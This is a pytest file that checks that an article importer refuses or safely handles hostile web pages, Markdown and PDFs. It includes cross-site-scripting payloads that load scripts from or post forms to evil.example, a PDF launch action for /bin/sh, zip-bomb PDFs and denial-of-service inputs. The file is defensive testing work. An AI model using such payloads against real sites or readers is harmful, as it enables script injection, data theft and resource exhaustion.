"""Web pages, Markdown and PDF files that are built to break their reader: refused or partial, within the limits."""

import random
import zlib

import pytest

from articles.importing import Call, Stopped
from articles.records import Flaw, UnreadableFile
from tests.importing.conftest import PARTS
from tests.importing.pdf_files import assembled, pdf, stream

TEXT = "The harbour board voted on Monday night to close the old quay until the wall has been looked at by an engineer."
ARTICLE = (
    f"<h1>Old quay closed</h1><p>{TEXT}</p><p>Nobody wants to be the one who waited too long, said Ida Sandvik.</p>"
)
SHORT = 1.0
"""Seconds of processor time, for what could take for ever: 20 are the limit."""


def documents(child, name, data, seconds=20.0):
    """What the child makes of a file within its limits."""
    data = data if isinstance(data, bytes) else data.encode()
    child.send(Call(PARTS, (name, data), seconds=seconds))
    return list(child.receive())


def ends(child, name, data):
    """The documents of a file, or nothing where it was refused or stopped for a reason that was foreseen."""
    try:
        return documents(child, name, data, SHORT)
    except (UnreadableFile, Stopped) as refused:
        assert "report it" not in str(refused)
        return []


def refusal(child, name, data):
    with pytest.raises((UnreadableFile, Stopped)) as refused:
        documents(child, name, data)
    notice = str(refused.value)
    assert notice.endswith(".") and "report it" not in notice
    return notice


def page(body, head=""):
    return f"<html><head>{head}</head><body>{body}</body></html>"


# Web pages


@pytest.mark.parametrize(
    "body",
    [
        "<div>" * 256 + ARTICLE + "</div>" * 256,
        "<div>" * 3000 + ARTICLE,
        "<table><tr><td>" * 100 + ARTICLE + "</table>" * 100,
        "<font>" * 600 + ARTICLE,
    ],
)
def test_deep_nesting_gives_the_text_and_a_warning_or_the_article(child, body):
    (found,) = documents(child, "a.html", page(body))
    assert TEXT in found.text
    assert "waited too long" in found.text
    assert found.warnings or "<table" in body


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<div>" * 100_000 + TEXT, "nested too deeply"),
        ("<b>" * 100_000 + TEXT, "nested too deeply"),
        ("<svg>" * 100_000 + TEXT, "nested too deeply"),
        ("<p " + " ".join(f"a{n}=1" for n in range(300_000)) + f">{TEXT}</p>", "too many attributes"),
        ("<p " + "a " * 300_000 + f">{TEXT}</p>", "too many attributes"),
    ],
    ids=["div", "b", "svg", "attributes", "one attribute"],
)
def test_pages_beyond_all_measure_are_refused(child, body, reason):
    assert reason in refusal(child, "a.html", page(body))


@pytest.mark.parametrize(
    "source",
    [
        page(""),
        page("<script>var text = 'none'</script><style>p {}</style><svg><text>none</text></svg>"),
        page("<img src='a.png' alt='none'><input value='none'><iframe>none</iframe>", "<title>none</title>"),
        page("<!-- none -->"),
        page("&nbsp; &#8203;"),
    ],
)
def test_a_page_without_text_is_refused(child, source):
    assert "text" in refusal(child, "a.html", source)


ACTIVE = """
<script>steal()</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><script type="text/javascript">steal()</script>
<img src=x onerror=steal()><img src="https://tracker.example/p.gif?u=1" width=1 height=1>
<svg onload=steal()><script>steal()</script><text>steal()</text></svg><math><mtext><script>steal()</script></mtext></math>
<a href="javascript:steal()" hx-get="/steal" hx-on:click="steal()">the old quay</a>
<a href="data:text/html,<script>steal()</script>">the wall</a>
<form action="https://evil.example/steal" hx-post="/steal"><input name=q value="steal()"><textarea>steal()</textarea></form>
<iframe srcdoc="<script>steal()</script>"></iframe><object data="steal.swf">steal()</object><embed src=steal.swf>
<template><p>steal()</p></template><noscript><img src="https://tracker.example/n.gif"></noscript>
<style>p { background: url(https://tracker.example/s.gif) } /* steal() */</style><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/steal"><link rel=stylesheet href=//evil.example/s.css>
<script>//<![CDATA[
steal() //]]></script><style><!-- steal() --></style><!-- <p>steal()</p> -->
"""
META = """
<meta property="og:url" content="javascript:steal()"><link rel="canonical" href="javascript:steal()">
<meta name="author" content="<script>steal()</script>"><meta property="og:title" content="Old quay closed">
<script type="application/ld+json">{"@type": "NewsArticle", "url": "javascript:steal()", "headline": "Old quay closed",
"publisher": "<b>Harbour</b> Courier"}</script>
"""


@pytest.mark.parametrize("name", ["a.html", "a.md"])
def test_what_acts_never_reaches_the_text(child, name):
    source = page(ACTIVE + ARTICLE.replace("</p><p>", f"</p>{ACTIVE}<p>"), META) if name == "a.html" else None
    markdown = f"# Old quay closed\n\n{TEXT}\n\n{ACTIVE}\n\nNobody wants to be the one who waited too long, she said.\n"
    (found,) = documents(child, name, source or markdown)
    shown = [found.text, found.title, found.outlet, found.standfirst, found.url, *(one.text for one in found.removed)]
    for word in ("steal", "script", "hx-", "javascript:", "tracker.example", "evil.example", "onerror", "<"):
        assert [one for one in shown if word in one.replace("<script>steal()</script>", "")] == [], word
    assert TEXT in found.text
    assert found.title == "Old quay closed"


@pytest.mark.parametrize(
    "source",
    [
        "<" * 300_000,
        "<!--" * 20_000 + TEXT,
        "<![CDATA[" * 10_000 + TEXT,
        "<a href='" * 10_000 + TEXT,
        "&#" * 100_000,
        "&amp" * 100_000,
        page(f"<p>{TEXT}</p>" * 4_000),
        page(f"<a href=/x>{TEXT}</a>" * 4_000),
        page("<p>x" * 20_000),
        page("<p>" + "word " * 200_000 + "</p>"),
        page(ARTICLE, "<script type='application/ld+json'>" + '{"@graph":' * 10_000 + "</script>"),
        page(ARTICLE, "<script type='application/ld+json'>[" + '{"@type":"NewsArticle"},' * 10_000 + "{}]</script>"),
        page(ARTICLE, "<meta name='author' content='x'>" * 10_000),
        page(f"<h1>{'Old quay | ' * 5_000}</h1>{ARTICLE}", f"<title>{'Old quay | ' * 5_000}</title>"),
        page(ARTICLE + "<time datetime='2024-01-01'>x</time>" * 10_000),
        page("<p>a" + "\u0301" * 100_000 + f"</p>{ARTICLE}"),
    ],
    ids=lambda source: f"{source[:40]} {len(source)}",
)
def test_nothing_takes_for_ever(child, source):
    assert all(isinstance(one, Flaw) or one.text for one in ends(child, "a.html", source))


# Markdown


@pytest.mark.parametrize(
    "source",
    [
        ">" * 256 + TEXT,
        "".join("  " * n + f"- level {n}\n" for n in range(300)) + "\n" + "  " * 300 + TEXT,
        "> - " * 100 + TEXT,
    ],
)
def test_deeply_nested_markdown_keeps_its_text_and_says_so(child, source):
    (found,) = documents(child, "a.md", source)
    assert TEXT in found.text or "the wall has been looked at" in found.text
    assert found.warnings


@pytest.mark.parametrize(
    "source",
    [
        ">" * 100_000 + TEXT,
        "[" * 10_000 + TEXT,
        "![" * 10_000 + TEXT,
        "*a **a " * 5_000 + TEXT,
        "`" * 50_000 + " " + TEXT,
        "".join("`" * n + " " for n in range(1, 500)) + TEXT,
        "<" * 10_000 + TEXT,
        "<!--" * 10_000 + TEXT,
        "[a]: x\n" * 4_000 + TEXT,
        "---\n" + "a:\n" * 10_000 + TEXT,
        "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + TEXT,
        "&#" * 100_000 + TEXT,
    ],
    ids=lambda source: f"{source[:12]!r} {len(source)}",
)
def test_no_markdown_takes_for_ever(child, source):
    assert all("looked at by an engineer." in one.text for one in ends(child, "a.md", source))


# PDF


def bomb(layers):
    content = b"BT /F 12 Tf (x) Tj ET\n" + b" " * 400_000_000
    for _ in range(layers):
        content = zlib.compress(content, 9)
    return content


def pages(kids, count=1, more=b""):
    """A catalog, a tree of pages, a font, and one page."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F 3 0 R >> %s >> >>"
        % more,
    ]


def drawn(text=TEXT):
    return stream(b"BT /F 12 Tf 50 700 Td (%s) Tj ET" % text.encode())


@pytest.mark.parametrize("layers", [1, 2])
def test_a_pdf_that_unpacks_to_far_too_much_is_refused(child, layers):
    filters = b"/Filter [%s] " % b" ".join([b"/FlateDecode"] * layers)
    assert refusal(child, "a.pdf", assembled([*pages(b"4 0 R"), stream(bomb(layers), filters)]))


@pytest.mark.parametrize(
    "objects",
    [
        # pages inside of themselves
        pages(b"2 0 R"),
        pages(b"4 0 R 2 0 R", 2),
        [b"<< /Type /Catalog /Pages 1 0 R >>"],
        [*pages(b"6 0 R"), drawn(), b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 2 >>"],
    ],
)
def test_cyclic_pages_are_refused(child, objects):
    assert "damaged" in refusal(child, "a.pdf", assembled([*objects, drawn()]))


@pytest.mark.parametrize("count", [999_999_999, 30_000])
def test_a_pdf_that_claims_too_many_pages_is_refused(child, count):
    assert f"claims {count} pages" in refusal(child, "a.pdf", assembled([*pages(b"4 0 R", count), drawn()]))


@pytest.mark.parametrize("count", [-1, 0, 7])
def test_a_pdf_that_counts_badly_is_read(child, count):
    (found,) = documents(child, "a.pdf", assembled([*pages(b"4 0 R", count), drawn()]))
    assert found.text == TEXT


@pytest.mark.parametrize("seed", range(4))
def test_random_bytes_are_refused(child, seed):
    assert refusal(child, "a.pdf", b"%PDF-1.7\n" + random.Random(seed).randbytes(50_000))


def test_a_cut_or_damaged_pdf_is_refused_or_read(child):
    whole = pdf(TEXT, TEXT)
    chance = random.Random(7)
    for _ in range(40):
        data = bytearray(whole[: chance.randrange(20, len(whole))])
        for _ in range(chance.randrange(8)):
            data[chance.randrange(9, len(data))] = chance.randrange(256)
        ends(child, "a.pdf", bytes(data))


def test_an_encrypted_pdf_is_refused(child):
    locked = b"<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <" + b"28" * 32 + b"> /U <" + b"7f" * 32 + b"> >>"
    data = assembled([*pages(b"4 0 R"), drawn(), locked], more=b"/Encrypt 6 0 R /ID [<aa> <aa>] ")
    assert "password" in refusal(child, "a.pdf", data)


def test_scripts_and_attachments_do_nothing(child):
    attached = (
        b"/Names << /EmbeddedFiles << /Names [(evil.html) << /Type /Filespec /F (evil.html) /EF << /F 3 0 R >> >>] >> "
    )
    script = b"/JavaScript << /Names [(x) << /S /JavaScript /JS (steal\\(\\)) >>] >> >> "
    opened = b"/OpenAction << /S /Launch /F (/bin/sh) >> /AA << /WC << /S /URI /URI (https://evil.example) >> >> "
    (found,) = documents(child, "a.pdf", pdf(TEXT, catalog=attached + script + opened))
    assert found.text == TEXT
    assert found.removed == ()


def test_a_slow_page_keeps_what_comes_before_it(child):
    slow = [(50, 700, 12, "x")] * 400_000
    (found,) = documents(child, "a.pdf", pdf(TEXT, slow, TEXT))
    assert found.text.startswith(TEXT)
    assert any("pages 2 to 3 are missing" in warning for warning in found.warnings)


@pytest.mark.parametrize(
    ("more", "content"),
    [
        # a picture that draws itself, and two that draw each other many times
        (b"/XObject << /X 6 0 R >>", b"/X Do " * 50),
        (b"/XObject << /X 6 0 R >>", b"/X Do " * 50 + b"BT /F 12 Tf 50 700 Td (Hello there) Tj ET"),
        # operators without end, numbers without end
        (b"", b"q " * 300_000),
        (b"", b"9" * 1_000_000 + b" Tf"),
        (b"", b"[" * 100_000),
        (b"", b"<<" * 100_000),
        (b"", b"(" * 100_000),
    ],
)
def test_no_content_of_a_page_takes_for_ever(child, more, content):
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> "
    objects = [*pages(b"4 0 R", more=more), stream(content), stream(b"/X Do /X Do", form)]
    ends(child, "a.pdf", assembled(objects))
